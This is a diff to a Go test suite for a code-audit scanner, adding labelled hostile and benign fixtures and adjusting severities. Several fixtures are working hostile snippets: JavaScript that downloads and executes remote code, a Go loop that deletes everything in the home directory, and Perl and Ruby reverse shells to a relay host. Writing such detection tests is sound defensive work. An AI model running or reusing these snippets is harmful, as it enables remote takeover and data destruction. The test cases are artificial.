@@ -14,7 +14,7 @@ import (
 // it, JavaScript running a server's answer, and the whole environment
 // serialised however deep in the expression.
 func TestRulesFromRedTeam4Code(t *testing.T) {
-	crit, high, med, none := audit.Critical, audit.High, audit.Medium, audit.SeverityNone
+	crit, med, none := audit.Critical, audit.Medium, audit.SeverityNone
 	file := func(name, body string) map[string]string { return map[string]string{name: body} }
 	goMain := func(imports, body string) map[string]string {
 		return file("scripts/tool.go", "package main\n\nimport (\n"+imports+")\n\nfunc main() {\n"+body+"}\n")
@@ -43,6 +43,7 @@ func TestRulesFromRedTeam4Code(t *testing.T) {
 			"benign/go-lookup-literal":         {goMain(goImports, "\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, \".kube\", \"config\"))\n\taddrs, _ := net.LookupHost(\"kubernetes.default.svc\")\n\tfmt.Println(len(b), addrs, hex.EncodeToString(nil), context.Background())\n"), none},
 			"benign/go-dns-no-cred":            {goMain("\t\"fmt\"\n\t\"net\"\n\t\"os\"\n", "\ttxt, err := net.LookupTXT(os.Args[1])\n\tfmt.Println(txt, err)\n"), none},
 			"benign/js-child-env":              {js("const { spawn } = require('child_process');\nspawn('npm', ['ci'], { env: process.env, stdio: 'inherit' });\nspawn('npm', ['test'], { env: Object.assign({}, process.env, { CI: '1' }) });\nfetch('https://registry.npmjs.org/left-pad').then((r) => r.json()).then((m) => console.log(m.name));\n"), none},
+			"benign/js-env-field-copy":         {js("const go = { env: {} };\ngo.env = Object.assign({ TMPDIR: require('os').tmpdir() }, process.env);\nfetch('https://example.com/wasm').then((r) => r.arrayBuffer());\n"), none},
 			"benign/py-child-env":              {py("import os, subprocess, requests\nsubprocess.run(['make'], env=dict(os.environ, CI='1'), check=True)\nprint(requests.get('https://pypi.org/pypi/requests/json').json()['info']['version'])\n"), none},
 		},
 		"reverse-shell": {
@@ -61,7 +62,8 @@ func TestRulesFromRedTeam4Code(t *testing.T) {
 			"hostile/js-require-written-temp":       {js("const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nhttps.get('https://cdn.example/p.js', (res) => {\n  let b = '';\n  res.on('data', (c) => (b += c));\n  res.on('end', () => {\n    const p = path.join(os.tmpdir(), 'p.js');\n    fs.writeFileSync(p, b);\n    require(p);\n  });\n});\n"), crit},
 			"hostile/js-require-vm-method":          {js("const https = require('https');\nhttps.get('https://cdn.example/p.js', (res) => {\n  let src = '';\n  res.on('data', (c) => { src += c; });\n  res.on('end', () => require('vm').runInThisContext(src));\n});\n"), crit},
 			"hostile/js-indirect-eval":              {file("scripts/s.mjs", "const code = await (await fetch('https://cdn.example/x')).text();\n(0, eval)(code);\n"), crit},
-			"hostile/js-eval-untraced":              {js("const cfg = loadSettings();\neval(cfg.hook);\nfetch('https://api.example/ping');\n"), high},
+			"hostile/js-eval-untraced":              {js("const cfg = loadSettings();\neval(cfg.hook);\nfetch('https://api.example/ping');\n"), med},
+			"benign/js-row-parser-function":         {js("function parse(text, row) {\n  const f = new Function('d', 'return {' + row.map((n, i) => JSON.stringify(n) + ': d[' + i + ']').join(',') + '}');\n  return text.split('\\n').map((l) => f(l.split(',')));\n}\nfetch('https://data.example/x.csv').then((r) => r.text()).then((t) => console.log(parse(t, ['a'])));\n"), med},
 			"benign/js-function-literal":            {js("const add = new Function('a', 'b', 'return a + b');\nfetch('https://api.example/n').then((r) => r.json()).then((j) => console.log(add(j.a, j.b)));\n"), none},
 			"benign/js-require-module":              {js("const name = process.argv[2];\nconst plugin = require(name);\nfetch('https://registry.npmjs.org/' + name).then((r) => r.json()).then((m) => plugin.check(m));\n"), none},
 			"benign/js-json-parse-answer":           {file("scripts/s.mjs", "const m = JSON.parse(await (await fetch('https://api.example/v')).text());\nconsole.log(m.version);\n"), none},
@@ -81,6 +83,8 @@ func TestRulesFromRedTeam4Code(t *testing.T) {
 			"hostile/go-readdir-home-entries":       {goMain("\t\"os\"\n\t\"path/filepath\"\n", "\thome, _ := os.UserHomeDir()\n\tentries, _ := os.ReadDir(home)\n\tfor _, e := range entries {\n\t\tos.RemoveAll(filepath.Join(home, e.Name()))\n\t}\n"), crit},
 			"benign/go-removeall-cache":             {goMain("\t\"os\"\n\t\"path/filepath\"\n", "\thome, _ := os.UserHomeDir()\n\tos.RemoveAll(filepath.Join(home, \".cache\", \"tool\"))\n\tos.RemoveAll(os.TempDir() + \"/tool\")\n"), none},
 			"benign/perl-system-scoped":             {perl("system(\"rm -rf ./build\") == 0 or die;\n"), none},
+			"benign/perl-import-and-empty":          {perl("use File::Path 2.06 qw/ rmtree /;\nmy $tmp = '';\nrmtree($tmp) if length $tmp;\n"), none},
+			"benign/go-removeall-empty-default":     {goMain("\t\"os\"\n", "\tdir := \"\"\n\tif len(os.Args) > 1 {\n\t\tdir = os.Args[1]\n\t}\n\tos.RemoveAll(dir)\n"), none},
 			"benign/perl-rotate-scoped":             {perl("my $dir = shift // './logs';\nremove_tree(\"$dir/old\");\nunlink glob(\"$ENV{HOME}/.cache/rotate/*.tmp\");\nunlink \"$dir/app.log.8.gz\";\n"), none},
 			"benign/perl-grep-selects":              {perl("unlink grep { /\\.lock$/ } glob(\"$ENV{HOME}/*\");\n"), none},
 			"benign/ruby-cache":                     {ruby("FileUtils.rm_rf(File.join(Dir.home, '.cache', 'mytool'))\nFileUtils.rm_f(Dir.glob('tmp/*.log'))\n"), none},
@@ -105,6 +109,7 @@ func TestReverseShellPerlRuby(t *testing.T) {
 		"hostile/perl-io-socket-dup":   {file("scripts/sync.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => $ENV{RELAY}, Proto => 'tcp') or exit;\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec('/bin/sh', '-i');\n"), crit},
 		"hostile/ruby-tcpsocket-fd":    {file("scripts/sync.rb", "require 'socket'\nf = TCPSocket.open(ENV.fetch('RELAY'), 443).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)\n"), crit},
 		"hostile/ruby-spawn-streams":   {file("scripts/sync.rb", "require 'socket'\ns = Socket.tcp(ENV['RELAY'], 443)\nPid = spawn('/bin/sh', '-i', [:in, :out, :err] => s)\n"), crit},
+		"benign/perl-save-stdout":      {file("scripts/get.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'example.com:80') or die;\nopen(my $old, '>&', \\*STDOUT);\nopen(STDOUT, '>', '/dev/null');\nopen(STDOUT, '>&', $old);\nprint $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\n"), none},
 		"benign/perl-http-client":      {file("scripts/get.pl", "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'example.com:80') or die;\nprint $s \"GET / HTTP/1.0\\r\\n\\r\\n\";\nprint while <$s>;\nsystem('git', 'status');\n"), none},
 		"benign/ruby-tcp-client":       {file("scripts/get.rb", "require 'socket'\ns = TCPSocket.new('example.com', 80)\ns.write(\"GET / HTTP/1.0\\r\\n\\r\\n\")\nputs s.read\nsystem('git', 'status')\n"), none},
 	})
